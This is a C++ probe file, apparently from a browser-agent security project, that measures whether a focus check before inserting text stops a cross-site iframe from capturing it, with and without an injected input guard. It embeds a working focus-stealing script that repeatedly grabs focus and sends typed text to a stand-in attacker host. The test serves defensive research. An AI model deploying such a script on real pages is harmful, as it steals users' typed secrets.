// Is a check of the focus enough before text is inserted? A frame of another site takes
// the focus every 5 ms. The page's field is given the focus, the check finds that it has
// it, and only then the text is inserted. Then the same with a guard in an isolated
// world of every document that cancels `beforeinput` where it is not meant to be.

#include <iostream>

#include <nlohmann/json.hpp>

#include "browser/input_guard.hpp"
#include "common/probe_browser.hpp"
#include "common/table.hpp"

namespace {

using agentlock::Json;
using agentlock::probe::ProbeBrowser;
using agentlock::probe::Table;
using namespace agentlock::test;

constexpr int kTries = 20;

constexpr const char* kThief = R"html(<input id="t"><script>
  setInterval(() => { window.focus(); t.focus(); }, 5);
  t.oninput = () => { fetch('/got?' + t.value); t.value = ''; };
</script>)html";

void guard(ProbeBrowser& browser, const ProbeBrowser::Tab& tab) {
  Json filter = Json::array({{{"type", "iframe"}}});
  browser.on_event([&browser](const Json& event) {
    if (event.value("method", "") != "Target.attachedToTarget") return;
    const std::string frame = event.at("params").at("sessionId");
    browser.send("Page.enable", Json::object(), frame);
    browser.send("Page.addScriptToEvaluateOnNewDocument",
                 {{"source", agentlock::browser::remote_input_guard_script()},
                  {"worldName", "guard"},
                  {"runImmediately", true}},
                 frame);
    browser.send("Runtime.runIfWaitingForDebugger", Json::object(), frame);
  });
  browser.call("Target.setAutoAttach",
               {{"autoAttach", true},
                {"waitForDebuggerOnStart", true},
                {"flatten", true},
                {"filter", filter}},
               tab.session);
}

void measure(bool guarded, Table& table) {
  TestSite site;
  site.evil().serve("/thief", html(kThief));
  site.fixture().serve("/", html("<!doctype html><title>t</title><input id='field'>"
                                 "<iframe src='http://evil.test/thief'></iframe>"));
  ProbeBrowser browser(site);
  const auto tab = browser.open_tab();
  browser.call("Emulation.setFocusEmulationEnabled", {{"enabled", true}}, tab.session);
  if (guarded) guard(browser, tab);
  browser.load(tab, "http://fixture.test/");

  int focused = 0;
  int arrived = 0;
  for (int i = 0; i < kTries; ++i) {
    browser.evaluate(tab, "field.value = ''; field.focus()");
    const Json check = browser.evaluate(
        tab, "document.hasFocus() && document.activeElement === document.getElementById('field')");
    if (check != true) continue;
    ++focused;
    browser.call("Input.insertText", {{"text", "secret"}}, tab.session);
    if (browser.evaluate(tab, "field.value") == "secret") ++arrived;
  }
  // What the frame sends of its own goes out after what it stole.
  browser.load(tab, "http://evil.test/thief");
  int stolen = 0;
  for (const Hit& hit : site.evil().hits()) stolen += hit.path() == "/got" ? 1 : 0;
  table.add({guarded ? "with the guard" : "check alone", std::to_string(kTries),
             std::to_string(focused), std::to_string(arrived), std::to_string(stolen)});
}

}  // namespace

int main() {
  TestSite site;
  std::cout << ProbeBrowser(site).version() << "\n\n";
  Table table({"", "tries", "check passed", "text in the field", "text at the other site"});
  measure(false, table);
  measure(true, table);
  table.print();
  return 0;
}
